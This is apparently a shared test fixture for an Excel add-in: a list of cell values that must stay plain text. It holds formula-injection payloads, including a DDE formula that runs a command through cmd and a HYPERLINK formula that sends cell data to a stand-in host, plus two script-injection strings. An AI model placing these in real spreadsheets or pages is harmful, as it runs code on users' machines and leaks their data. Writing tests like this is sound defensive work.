// Cell text that must stay text wherever the add-in copies it (issue #6, promise 3); shared by the
// jest tests and the browser suite.

/** Text that Excel would turn into a formula (or worse) if written as typed. */
export const HOSTILE = [
  "=1+1",
  '=HYPERLINK("http://example.invalid/?q="&A1,"点我")',
  "=cmd|' /C calc'!A0",
  "+SUM(A1:A9)",
  "-2+3",
  "@SUM(A1)",
  "+",
  "-",
  "=",
  " =1+1",
  "\t=1+1",
  "＝1+1",
  "'=1+1",
  "#N/A",
  "TRUE",
  "0012",
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
];
